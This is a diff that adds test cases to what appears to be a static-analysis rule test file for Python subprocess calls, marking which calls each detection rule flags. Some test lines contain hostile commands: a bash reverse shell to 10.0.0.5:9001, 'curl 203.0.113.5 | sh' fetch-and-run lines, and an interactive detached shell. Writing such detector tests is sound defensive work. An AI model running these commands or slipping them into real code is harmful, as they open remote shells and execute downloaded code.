@@ -154,6 +154,43 @@ subprocess.run(["bash", "build.sh"], check=True)
 # ruleid: subprocess-call, process-partial-path, process-partial-path-list
 subprocess.run(["git", "status"], check=True)
 
+# the argument list bound to a name first, and wrappers in front of the shell
+argv = ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.5/9001 0>&1"]
+# ruleid: shell-in-argv, subprocess-call
+subprocess.Popen(argv)
+# ruleid: shell-in-argv, subprocess-call
+subprocess.run(["/usr/bin/env", "bash", "-c", cmd])
+# ruleid: shell-in-argv, subprocess-call, process-partial-path-list
+subprocess.run(["find", ".", "-maxdepth", "0", "-exec", "sh", "-c", cmd, ";"])
+# ruleid: shell-in-argv, subprocess-call, process-partial-path, process-partial-path-list
+subprocess.Popen(["nohup", "bash", "-c", "sleep 5; curl 203.0.113.5 | sh"])
+# ruleid: shell-interactive, subprocess-call, process-partial-path, process-partial-path-list
+subprocess.Popen(["setsid", "/bin/sh", "-i"])
+# ok: shell-in-argv
+# ruleid: subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["grep", "-c", "pattern", "notes.txt"])
+
+# shell as Popen's ninth positional argument, or as executable=
+# ruleid: subprocess-shell-positional, subprocess-call, process-partial-path
+subprocess.Popen("id; curl 203.0.113.5|sh", -1, None, None, None, None, None, True, True)
+# ok: subprocess-shell-positional
+# ruleid: subprocess-call
+subprocess.Popen(["/usr/bin/id"], -1, None, None, None, None, None, True, False)
+# ruleid: subprocess-shell-executable, subprocess-call, process-partial-path, process-partial-path-list
+subprocess.Popen(["ignored", "-c", "id > /tmp/e"], executable="/bin/bash")
+# ok: subprocess-shell-executable
+# ruleid: subprocess-call, process-partial-path, process-partial-path-list
+subprocess.Popen(["tool", "--version"], executable="/usr/local/bin/tool")
+
+
+async def spawn(cmd):
+    # ruleid: shell-in-exec-args, asyncio-subprocess-exec, process-partial-path
+    await asyncio.create_subprocess_exec("sh", "-c", cmd)
+    # ok: shell-in-exec-args
+    # ruleid: asyncio-subprocess-exec
+    await asyncio.create_subprocess_exec("/usr/bin/git", "status")
+
+
 # network-command: what the network sends, run as a program
 import requests
 import socket
